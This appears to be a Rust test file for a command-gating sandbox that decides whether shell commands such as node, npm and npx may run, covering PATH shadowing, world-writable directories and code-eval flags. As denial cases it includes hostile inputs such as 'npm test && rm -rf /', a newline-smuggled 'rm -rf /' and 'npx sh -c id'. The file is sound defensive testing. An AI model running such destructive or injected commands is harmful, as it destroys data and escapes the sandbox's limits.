const BENCH: &[Case] = &[
    (C("node -e 1"), OK, "allowed"),
    (C("node --eval=1"), OK, "allowed"),
    (C("node -e 1 -r x"), DENY, "node-eval"),
    (C("node -p 1"), DENY, "node-eval"),
    (C("node -e 1 arg1 arg2"), OK, "allowed"),
];

/// PATH shadowing and world-writable locations, validate rules, cwd = repo unless stated.
struct LocationGroup {
    name: &'static str,
    path: &'static str,
    cwd: &'static str,
    rules: RuleSet,
    cases: &'static [Case],
}

#[derive(Clone, Copy)]
enum RuleSet {
    Validate,
    Exempt,
    Env,
    /// validate + `paths` naming the repo's `.venv/bin/python` (a link leading out).
    Named,
    Adapter,
}

const LOCATIONS: &[LocationGroup] = &[
    LocationGroup {
        name: "adapter, repo node_modules/.bin first in PATH",
        path: "{repo}/node_modules/.bin:{sys}",
        cwd: "{repo}",
        rules: RuleSet::Adapter,
        cases: &[
            (A(&["claude", "-p", "a\nb"]), DENY, "program-in-repo"),
            (A(&["codex", "exec", "a\nb"]), OK, "allowed"),
        ],
    },
    LocationGroup {
        name: "repo node_modules/.bin first in PATH",
        path: "{repo}/node_modules/.bin:{sys}",
        cwd: "{repo}",
        rules: RuleSet::Validate,
        cases: &[
            (C("node t.js"), DENY, "program-in-repo"),
            (C("npm test"), OK, "allowed"),
        ],
    },
    LocationGroup {
        name: "repo bin (symlink to the system node) first in PATH",
        path: "{repo}/bin:{sys}",
        cwd: "{repo}",
        rules: RuleSet::Validate,
        cases: &[(C("node t.js"), DENY, "program-in-repo")],
    },
    LocationGroup {
        name: "relative PATH entry",
        path: "bin:{sys}",
        cwd: "{repo}",
        rules: RuleSet::Validate,
        cases: &[(C("node t.js"), DENY, "program-in-repo")],
    },
    LocationGroup {
        name: "empty PATH entry with cwd in the repo",
        path: ":{sys}",
        cwd: "{repo}",
        rules: RuleSet::Validate,
        cases: &[
            (C("node t.js"), DENY, "program-in-repo"),
            (A(&["node", "t.js"]), DENY, "program-in-repo"),
            (C("npm test"), OK, "allowed"),
        ],
    },
    LocationGroup {
        name: "empty PATH entry with cwd outside the repo",
        path: ":{sys}",
        cwd: "{root}/outside",
        rules: RuleSet::Validate,
        cases: &[(C("node t.js"), OK, "allowed")],
    },
    LocationGroup {
        name: "world-writable directory first in PATH",
        path: "{ww}:{sys}",
        cwd: "{repo}",
        rules: RuleSet::Validate,
        cases: &[(C("node t.js"), DENY, "program-world-writable")],
    },
    LocationGroup {
        name: "sub directory of a world-writable directory",
        path: "{ww}/sub:{sys}",
        cwd: "{repo}",
        rules: RuleSet::Validate,
        cases: &[(C("node t.js"), DENY, "program-world-writable")],
    },
    LocationGroup {
        name: "symlink chain through a world-writable directory",
        path: "{root}/links:{sys}",
        cwd: "{repo}",
        rules: RuleSet::Validate,
        cases: &[(C("node t.js"), DENY, "program-world-writable")],
    },
    LocationGroup {
        name: "PATH entry is a symlink inside a world-writable directory",
        path: "{ww}/binlink",
        cwd: "{repo}",
        rules: RuleSet::Validate,
        cases: &[(C("node t.js"), DENY, "program-world-writable")],
    },
    LocationGroup {
        name: "non-executable node earlier in PATH is skipped",
        path: "{root}/noexec:{sys}",
        cwd: "{repo}",
        rules: RuleSet::Validate,
        cases: &[(C("node t.js"), OK, "allowed")],
    },
    LocationGroup {
        name: "nothing on PATH",
        path: "{root}/nonexistent",
        cwd: "{repo}",
        rules: RuleSet::Validate,
        cases: &[
            (C("node t.js"), NF, "program-not-found"),
            (C("npm test"), NF, "program-not-found"),
            (C("python3 t.py"), DENY, "not-allowed"),
        ],
    },
    LocationGroup {
        name: "world-writable node exempted by rules.paths",
        path: "{ww}:{sys}",
        cwd: "{repo}",
        rules: RuleSet::Exempt,
        cases: &[
            (C("node t.js"), OK, "allowed"),
            (C("{ww}/node t.js"), OK, "allowed"),
            (C("{ww}/node -e x"), DENY, "node-eval"),
        ],
    },
    LocationGroup {
        name: "repo symlink to an exempt program",
        path: "{repo}/tools:{sys}",
        cwd: "{repo}",
        rules: RuleSet::Exempt,
        cases: &[
            (C("node t.js"), DENY, "program-in-repo"),
            (C("./tools/node t.js"), DENY, "program-in-repo"),
        ],
    },
    LocationGroup {
        name: "validate does not run a virtualenv's python",
        path: "{sys}",
        cwd: "{repo}",
        rules: RuleSet::Validate,
        cases: &[
            (C(".venv/bin/python -m pytest"), DENY, "not-allowed"),
            (C(".venv/bin/pytest"), DENY, "program-in-repo"),
        ],
    },
    LocationGroup {
        name: "paths names a link in the repo: allowed as named",
        path: "{sys}",
        cwd: "{repo}",
        rules: RuleSet::Named,
        cases: &[
            (C(".venv/bin/python -m pytest"), OK, "allowed"),
            (C("{repo}/.venv/bin/python -m pytest"), OK, "allowed"),
            (
                C("{repo}/.venv/../.venv/bin/python -m pytest"),
                OK,
                "allowed",
            ),
            // not named: the same target through another link in the repo
            (C(".venv/bin/python3 -m pytest"), DENY, "program-in-repo"),
            (C(".venv/bin/evil t.js"), DENY, "not-allowed"),
        ],
    },
    LocationGroup {
        name: "env -C into the repo with an empty PATH entry",
        path: ":{sys}",
        cwd: "{root}/outside",
        rules: RuleSet::Env,
        cases: &[
            (C("env -C {repo} node t.js"), DENY, "program-in-repo"),
            (C("env -C {root} node t.js"), OK, "allowed"),
        ],
    },
];

// ---------------------------------------------------------------------------------------------
// Running cases

fn run(fx: &Fixture, input: In, rules: &Rules, path: &str, cwd: &Path) -> (Vec<String>, Verdict) {
    let path = OsString::from(fx.expand(path));
    let ctx = Context {
        repo: &fx.repo,
        cwd,
        path: &path,
    };
    match input {
        C(text) => {
            let text = fx.expand(text);
            let words = text.split(' ').map(str::to_owned).collect();
            (words, gate(&Input::Command(&text), rules, &ctx))
        }
        A(words) => {
            let words: Vec<String> = words.iter().map(|w| fx.expand(w)).collect();
            let argv: Vec<OsString> = words.iter().map(OsString::from).collect();
            (words, gate(&Input::Argv(&argv), rules, &ctx))
        }
    }
}

/// Independent `execvp`-style lookup, to check the verdict's `program`.
fn which(name: &str, path: &str, cwd: &Path) -> Option<PathBuf> {
    if name.contains('/') {
        return fs::canonicalize(cwd.join(name)).ok();
    }
    path.split(':')
        .map(|dir| cwd.join(dir).join(name))
        .find(|p| {
            fs::metadata(p)
                .map(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
                .unwrap_or(false)
        })
        .and_then(|p| fs::canonicalize(p).ok())
}

/// Checks one verdict against the expectation; returns a failure description.
fn check_case(
    group: &str,
    input: In,
    verdict: &Verdict,
    want: &Outcome,
    rule: &str,
    expected_program: impl FnOnce() -> Option<PathBuf>,
) -> Option<String> {
    let mut problems = Vec::new();
    if verdict.outcome != *want || verdict.rule != rule {
        problems.push(format!(
            "expected {want:?}/{rule}, got {:?}/{} ({})",
            verdict.outcome, verdict.rule, verdict.reason
        ));
    }
    if verdict.reason.chars().any(char::is_control) {
        problems.push(format!(
            "reason has a raw control character: {:?}",
            verdict.reason
        ));
    }
    if verdict.reason.is_empty() {
        problems.push("empty reason".to_owned());
    }
    if verdict.exit_code() != expected_exit(want) {
        problems.push(format!("exit code {}", verdict.exit_code()));
    }
    if *want == OK && verdict.outcome == OK {
        let expected = expected_program();
        if expected.is_none() || verdict.program != expected {
            problems.push(format!(
                "program {:?}, expected {:?}",
                verdict.program, expected
            ));
        }
        if verdict.word.is_some() {
            problems.push("allowed verdict with an offending word".to_owned());
        }
    }
    if verdict.outcome != OK && !verdict.reason.contains(&format!("rule {rule}")) {
        problems.push(format!("reason does not name the rule: {}", verdict.reason));
    }
    if problems.is_empty() {
        None
    } else {
        Some(format!("[{group}] {input:?}: {}", problems.join("; ")))
    }
}

fn expected_exit(outcome: &Outcome) -> i32 {
    match outcome {
        Outcome::Allowed => 0,
        Outcome::Denied => 126,
        Outcome::NotFound => 127,
    }
}

/// Runs a group of cases, collecting failures.
fn run_group(
    fx: &Fixture,
    group: &str,
    rules: &Rules,
    path: &str,
    cwd: &Path,
    cases: &[Case],
    failures: &mut Vec<String>,
) -> usize {
    let expanded_path = fx.expand(path);
    for (input, want, rule) in cases {
        let (words, verdict) = run(fx, *input, rules, path, cwd);
        let first = words.first().cloned().unwrap_or_default();
        let program = || which(&first, &expanded_path, cwd);
        if let Some(failure) = check_case(group, *input, &verdict, want, rule, program) {
            failures.push(failure);
        }
    }
    cases.len()
}

#[test]
fn gate_table() {
    let fx = fixture();
    let sys = fx.sys.to_string_lossy().into_owned();
    let mut failures = Vec::new();
    let mut count = 0;
    count += run_group(
        fx,
        "validate",
        &validate_rules(),
        &sys,
        &fx.repo,
        VALIDATE,
        &mut failures,
    );
    count += run_group(
        fx,
        "env-allowed",
        &env_rules(),
        &sys,
        &fx.repo,
        ENV_ALLOWED,
        &mut failures,
    );
    count += run_group(fx, "ci", &ci_rules(), &sys, &fx.repo, CI, &mut failures);
    count += run_group(
        fx,
        "adapter",
        &adapter_rules(),
        &sys,
        &fx.repo,
        ADAPTER,
        &mut failures,
    );
    count += run_group(
        fx,
        "bench",
        &bench_rules(),
        &sys,
        &fx.repo,
        BENCH,
        &mut failures,
    );
    for group in LOCATIONS {
        let rules = match group.rules {
            RuleSet::Validate => validate_rules(),
            RuleSet::Exempt => exempt_rules(fx),
            RuleSet::Env => env_rules(),
            RuleSet::Named => named_rules(fx),
            RuleSet::Adapter => adapter_rules(),
        };
        let cwd = PathBuf::from(fx.expand(group.cwd));
        count += run_group(
            fx,
            group.name,
            &rules,
            group.path,
            &cwd,
            group.cases,
            &mut failures,
        );
    }
    assert!(count >= 180, "only {count} table cases");
    assert!(
        failures.is_empty(),
        "{} of {count} cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
    println!("{count} table cases passed");
}

/// The offending word and the wording of selected reasons.
#[test]
fn words_and_reasons() {
    let fx = fixture();
    let sys = fx.sys.to_string_lossy().into_owned();
    let rules = validate_rules();
    let cases: &[(In, Option<&str>, &str)] = &[
        (C("node -e x"), Some("-e"), "\"-e\" evaluates code"),
        (
            C("node --require=./x t.js"),
            Some("--require=./x"),
            "loads and runs a module",
        ),
        (
            C("n\u{43e}de t.js"),
            Some("n\u{43e}de"),
            "non-ASCII characters (look-alike?)",
        ),
        (C("npm test && rm -rf /"), Some("&&"), "'&'"),
        (C("npm test\nrm -rf /"), Some("test\nrm"), "\\n"),
        (A(&["node", "\x1b[31mred"]), Some("\x1b[31mred"), "\\u{1b}"),
        (
            C("npm publish"),
            Some("publish"),
            "npm subcommand \"publish\"",
        ),
        (
            C("npm --prefix /etc test"),
            Some("--prefix"),
            "outside the repository",
        ),
        (C("npx sh -c id"), Some("sh"), "\"sh\""),
        (
            C("node t.js $HOME"),
            Some("$HOME"),
            "does not expand variables",
        ),
        (C(""), None, "no command"),
        (C("./node t.js"), Some("./node"), "inside the repository"),
        (
            C("NODE_OPTIONS=--require=x node t.js"),
            Some("NODE_OPTIONS=--require=x"),
            "environment",
        ),
    ];
    let mut failures = Vec::new();
    for (input, word, fragment) in cases {
        let (_, verdict) = run(fx, *input, &rules, &sys, &fx.repo);
        if verdict.word.as_deref() != *word || !verdict.reason.contains(fragment) {
            failures.push(format!(
                "{input:?}: word {:?} (want {word:?}), reason {:?} (want {fragment:?})",
                verdict.word, verdict.reason
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));

    let (_, verdict) = run(fx, C("node t.js"), &rules, &sys, &fx.repo);
    assert_eq!(verdict.argv, ["node", "t.js"]);
    assert!(
        verdict.reason.starts_with("allowed: node runs "),
        "{}",
        verdict.reason
    );
    let json = serde_json::to_value(&verdict).expect("serializes");
    assert_eq!(json["outcome"], "allowed");
    assert_eq!(json["rule"], "allowed");
    let (_, verdict) = run(fx, C("node -e x"), &rules, &sys, &fx.repo);
    assert_eq!(
        verdict.program,
        Some(fs::canonicalize(fx.sys.join("node")).expect("node")),
        "program is reported for denials after resolution"
    );
    let json = serde_json::to_value(&verdict).expect("serializes");
    assert_eq!(json["outcome"], "denied");
    assert_eq!(found_path(&verdict, OsStr::new(&sys), &fx.repo), None);

    // found_path: the PATH location of the very file the gate checked.
    let (_, verdict) = run(fx, C("node t.js"), &rules, &sys, &fx.repo);
    assert_eq!(
        found_path(&verdict, OsStr::new(&sys), &fx.repo),
        Some(fx.sys.join("node"))
    );
    let other = format!("{}/noexec:{}/ww", fx.root.display(), fx.root.display());
    assert_eq!(found_path(&verdict, OsStr::new(&other), &fx.repo), None);
}

#[test]
fn invalid_utf8_argv() {
    let fx = fixture();
    let rules = validate_rules();
    let path = fx.sys.clone().into_os_string();
    let ctx = Context {
        repo: &fx.repo,
        cwd: &fx.repo,
        path: &path,
    };
    for argv in [
        vec![
            OsString::from("node"),
            OsString::from_vec(vec![b't', 0xff, b'.', b'j', b's']),
        ],
        vec![OsString::from_vec(vec![b'n', 0xc0, b'd', b'e'])],
    ] {
        let verdict = gate(&Input::Argv(&argv), &rules, &ctx);
        assert_eq!(verdict.rule, "invalid-utf8", "{}", verdict.reason);
        assert_eq!(verdict.exit_code(), 126);
    }
}

#[test]
fn oversized_input_is_denied_fast() {
    let fx = fixture();
    let rules = validate_rules();
    let path = fx.sys.clone().into_os_string();
    let ctx = Context {
        repo: &fx.repo,
        cwd: &fx.repo,
        path: &path,
    };
    let start = Instant::now();
    let huge = format!("node t.js {}", "a".repeat(1024 * 1024));
    let verdict = gate(&Input::Command(&huge), &rules, &ctx);
    assert_eq!(verdict.rule, "too-long");
    let huge_argv = vec![
        OsString::from("node"),
        OsString::from("a".repeat(1024 * 1024)),
    ];
    let verdict = gate(&Input::Argv(&huge_argv), &rules, &ctx);
    assert_eq!(verdict.rule, "too-long");
    // One word over MAX_ARG_STRLEN, total under the command limit.
    let long_word = format!("node t.js {}", "b".repeat(200 * 1024));
    let verdict = gate(&Input::Command(&long_word), &rules, &ctx);
    assert_eq!(verdict.rule, "too-long");
    let long_argv = vec![
        OsString::from("node"),
        OsString::from("b".repeat(200 * 1024)),
    ];
    let verdict = gate(&Input::Argv(&long_argv), &rules, &ctx);
    assert_eq!(verdict.rule, "too-long");
    // Just under the limits: allowed (and still quick).
    let big_ok = format!("node t.js '{}'", "c".repeat(120 * 1024));
    let verdict = gate(&Input::Command(&big_ok), &rules, &ctx);
    assert_eq!(verdict.rule, "allowed", "{}", verdict.reason);
    assert!(
        start.elapsed() < Duration::from_secs(1),
        "took {:?}",
        start.elapsed()
    );
}

/// Inputs just under the size limits that stress each stage stay fast (linear time).
#[test]
fn pathological_inputs_are_fast() {
    let fx = fixture();
    let rules = env_rules();
    let path = fx.sys.clone().into_os_string();
    let ctx = Context {
        repo: &fx.repo,
        cwd: &fx.repo,
        path: &path,
    };
    let near = |unit: &str, head: &str| {
        let budget = 250 * 1024 - head.len();
        format!("{head}{}", unit.repeat(budget / unit.len()))
    };
    let inputs = [
        near("{", "node t.js "),
        near("{a", "node t.js "),
        near("$", "node t.js \\"),
        near(" --zzzz", "npm"),
        near(" --silent", "npm test"),
        near(" -C x", "node"),
        near(" -y", "npx"),
        near(" a", "npm exec eslint"),
        near("env ", ""),
        near("'a'\\''", "node t.js "),
    ];
    for input in &inputs {
        let start = Instant::now();
        let verdict = gate(&Input::Command(input), &rules, &ctx);
        let took = start.elapsed();
        assert!(
            took < Duration::from_secs(1),
            "{took:?} for {} ({})",
            &input[..20],
            verdict.rule
        );
    }
}

/// Cases against the real host PATH and the real node/npm/npx, when installed.
#[test]
fn real_host_programs() {
    let fx = fixture();
    let host_path = "/usr/local/bin:/usr/bin:/bin";
    let present = |name: &str| which(name, host_path, Path::new("/")).is_some();
    if !["node", "npm", "npx"].iter().all(|p| present(p)) {
        println!("skipping real_host_programs: node, npm or npx is not installed on {host_path}");
        return;
    }
    let rules = validate_rules();
    let cases: &[Case] = &[
        (C("node t.js"), OK, "allowed"),
        (C("npm test"), OK, "allowed"),
        (C("npm run lint"), OK, "allowed"),
        (C("npx eslint ."), OK, "allowed"),
        (C("node -e x"), DENY, "node-eval"),
        (C("npx sh -c id"), DENY, "wrapped-not-allowed"),
        (C("npm exec -- bash"), DENY, "wrapped-not-allowed"),
        (C("bash -c id"), DENY, "not-allowed"),
        (C("/usr/bin/node t.js"), DENY, "not-allowed"),
        (A(&["npm", "test", "--", "--grep", "a|b"]), OK, "allowed"),
    ];
    let mut failures = Vec::new();
    run_group(
        fx,
        "real host",
        &rules,
        host_path,
        &fx.repo,
        cases,
        &mut failures,
    );
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // npm is a symlink into node_modules: the canonical path is reported.
    let (_, verdict) = run(fx, C("npm test"), &rules, host_path, &fx.repo);
    let program = verdict.program.expect("resolved");
    assert_eq!(Some(program.clone()), which("npm", host_path, &fx.repo));
    println!("npm resolves to {}", program.display());
}

/// `free_text` entries: bare names or absolute paths of programs without argument rules.
#[test]
fn free_text_entries() {
    use sandbox_run::policy::free_text_entry;
    let adapter = sandbox_run::profile::Loader { dirs: Vec::new() }
        .load("adapter")
        .unwrap();
    assert_eq!(
        adapter.gate.free_text,
        strs(&[
            "claude",
            "codex",
            "gemini",
            "cursor-agent",
            "aider",
            "opencode",
            "goose",
            "amp",
            "qwen",
            "copilot"
        ])
    );
    for ok in ["claude", "cursor-agent", "/opt/bin/probe"] {
        assert!(free_text_entry(ok).is_ok(), "{ok}");
    }
    for bad in [
        "node",
        "npm",
        "npx",
        "bash",
        "sh",
        "env",
        "timeout",
        "xargs",
        "/usr/bin/node",
        "bin/claude",
        "",
    ] {
        assert!(free_text_entry(bad).is_err(), "{bad}");
    }
}
